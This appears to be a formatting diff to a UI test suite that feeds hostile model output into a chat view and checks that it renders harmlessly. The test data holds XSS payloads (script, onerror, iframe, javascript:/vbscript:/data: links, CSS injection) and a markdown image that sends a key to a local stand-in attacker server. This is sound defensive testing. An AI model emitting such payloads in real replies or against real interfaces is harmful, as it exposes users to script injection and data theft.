@@ -18,7 +18,10 @@ describe('Fault suite: hostile model output in the chat view (UI)', function () 
   const rows: [string, string][] = [];
 
   before(async () => {
-    attacker = http.createServer((req, res) => { hits.push(req.url ?? ''); res.end('x'); });
+    attacker = http.createServer((req, res) => {
+      hits.push(req.url ?? '');
+      res.end('x');
+    });
     await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
     evil = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
     wb = await openWorkbench();
@@ -30,7 +33,9 @@ describe('Fault suite: hostile model output in the chat view (UI)', function () 
     await wb?.close();
     attacker?.close();
   });
-  afterEach(function () { return screenshotIfFailed(this, wb?.page, 'hostile'); });
+  afterEach(function () {
+    return screenshotIfFailed(this, wb?.page, 'hostile');
+  });
 
   const cases: [string, () => string][] = [
     ['<script> element', () => 'a <script>document.title="pwned"</script> b'],
@@ -38,7 +43,10 @@ describe('Fault suite: hostile model output in the chat view (UI)', function () 
     ['<img> with onerror, remote src', () => `<img src="${evil}/img.png" onerror="document.title='pwned'">`],
     ['Markdown image to a remote host', () => `![secret](${evil}/md.png?data=KEY)`],
     ['javascript: link', () => '[click](javascript:document.title="pwned")'],
-    ['mixed-case and entity-encoded javascript: links', () => '[a](JaVaScRiPt:alert(1)) [b](jav&#x61;script:alert(1)) <javascript:alert(1)>'],
+    [
+      'mixed-case and entity-encoded javascript: links',
+      () => '[a](JaVaScRiPt:alert(1)) [b](jav&#x61;script:alert(1)) <javascript:alert(1)>',
+    ],
     ['data: and vbscript: links', () => '[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [v](vbscript:msgbox(1))'],
     ['<iframe>', () => `<iframe src="${evil}/frame"></iframe>`],
     ['CSS injection with <style>', () => '<style>body{display:none} *{background:url(' + evil + '/css.png)}</style>visible'],
@@ -62,7 +70,10 @@ describe('Fault suite: hostile model output in the chat view (UI)', function () 
       await frame.locator('#input').press('Enter');
       // The reply is the article after this question (a long conversation shows only its latest
       // messages, so counting them would not find it).
-      const asked = frame.locator('.message.user').filter({ hasText: `hostile: ${name}` }).last();
+      const asked = frame
+        .locator('.message.user')
+        .filter({ hasText: `hostile: ${name}` })
+        .last();
       const answer = asked.locator('xpath=following-sibling::article[contains(@class, "assistant")][1]');
       await answer.waitFor({ timeout: 30_000 });
       await frame.locator('.message.assistant.streaming').waitFor({ state: 'detached', timeout: 60_000 });
@@ -70,10 +81,13 @@ describe('Fault suite: hostile model output in the chat view (UI)', function () 
       const t0 = Date.now();
       const found = await body.evaluate((el) => ({
         dangerous: el.querySelectorAll('script, iframe, img, svg, style, form, input, meta, object, embed, link').length,
-        handlers: [...el.querySelectorAll('*')].filter((n) => [...n.attributes].some((a) => /^on/i.test(a.name) || a.name === 'style' || a.name === 'src')).length,
+        handlers: [...el.querySelectorAll('*')].filter((n) =>
+          [...n.attributes].some((a) => /^on/i.test(a.name) || a.name === 'style' || a.name === 'src'),
+        ).length,
         // No link keeps an href (the webview host would open it by itself); targets live in data-href.
-        badLinks: el.querySelectorAll('a[href]').length
-          + [...el.querySelectorAll('a[data-href]')].filter((a) => !/^(https?:|mailto:)/i.test(a.getAttribute('data-href') ?? '')).length,
+        badLinks:
+          el.querySelectorAll('a[href]').length +
+          [...el.querySelectorAll('a[data-href]')].filter((a) => !/^(https?:|mailto:)/i.test(a.getAttribute('data-href') ?? '')).length,
         text: (el.textContent ?? '').slice(0, 200),
         blocks: el.querySelectorAll('.code-block').length,
         bodyVisible: getComputedStyle(document.body).display !== 'none',
